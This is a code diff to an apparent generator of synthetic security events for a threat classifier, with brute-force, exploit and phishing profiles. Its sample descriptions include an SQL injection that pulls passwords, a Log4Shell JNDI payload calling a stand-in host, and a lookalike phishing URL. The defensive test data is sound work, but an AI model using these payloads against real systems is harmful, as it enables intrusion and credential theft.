@@ -18,7 +18,10 @@ export const PROFILES: readonly Profile[] = [
   {
     category: 'BRUTEFORCE',
     threatTypes: ['ssh_bruteforce', 'brute-force', 'rdp brute force'],
-    descriptions: ['Failed password for root from 203.0.113.7 port 51234 ssh2', 'Too many authentication failures'],
+    descriptions: [
+      'Failed password for root from 203.0.113.7 port 51234 ssh2',
+      'Too many authentication failures',
+    ],
     ports: [22, 3389, 21],
     protocols: ['tcp'],
     severity: [4, 7],
@@ -34,7 +37,10 @@ export const PROFILES: readonly Profile[] = [
   {
     category: 'EXPLOIT',
     threatTypes: ['sql_injection', 'web-attack', 'log4shell'],
-    descriptions: ["GET /item?id=1' UNION SELECT password FROM users--", '${jndi:ldap://x.example/a} in User-Agent'],
+    descriptions: [
+      "GET /item?id=1' UNION SELECT password FROM users--",
+      '${jndi:ldap://x.example/a} in User-Agent',
+    ],
     ports: [80, 443, 8080],
     protocols: ['tcp', 'http'],
     severity: [7, 10],
@@ -42,7 +48,10 @@ export const PROFILES: readonly Profile[] = [
   {
     category: 'PHISHING',
     threatTypes: ['phishing', 'phishing_url'],
-    descriptions: ['Credential harvesting page mimicking the bank login', 'http://paypa1-secure.example/login'],
+    descriptions: [
+      'Credential harvesting page mimicking the bank login',
+      'http://paypa1-secure.example/login',
+    ],
     ports: [80, 443],
     protocols: ['tcp', 'https'],
     severity: [5, 8],
@@ -109,6 +118,12 @@ export function profileOf(category: ThreatCategory): Profile {
   return profile;
 }
 
+function sourcePort(random: Random): number {
+  const r = random();
+  if (r < 0.85) return 32768 + randomInt(random, 28000);
+  return r < 0.95 ? 1024 + randomInt(random, 30000) : randomInt(random, 1024);
+}
+
 /** One typical event of a category. */
 export function typicalEvent(random: Random, profile: Profile): ClassifierInput {
   const [low, high] = profile.severity;
@@ -116,13 +131,16 @@ export function typicalEvent(random: Random, profile: Profile): ClassifierInput 
     threatType: pick(random, profile.threatTypes),
     description: random() < 0.8 ? pick(random, profile.descriptions) : null,
     protocol: pick(random, profile.protocols),
-    sourcePort: 32768 + randomInt(random, 28000),
+    sourcePort: sourcePort(random),
     destinationPort: pick(random, profile.ports),
     severity: low + randomInt(random, high - low + 1),
     confidence: 0.6 + random() * 0.4,
-    tags: random() < 0.5 ? ['ids'] : [],
-    sourceIsPrivate: false,
-    occurredAt: new Date(Date.UTC(2026, 0, 5, 8 + randomInt(random, 10), randomInt(random, 60))),
+    tags: ['ids', 'edge'].slice(0, randomInt(random, 3)),
+    sourceIsPrivate: random() < 0.03,
+    // Half during office hours, half spread over the day.
+    occurredAt: new Date(
+      Date.UTC(2026, 0, 5, random() < 0.5 ? 8 + randomInt(random, 10) : randomInt(random, 24)),
+    ),
   };
 }
 
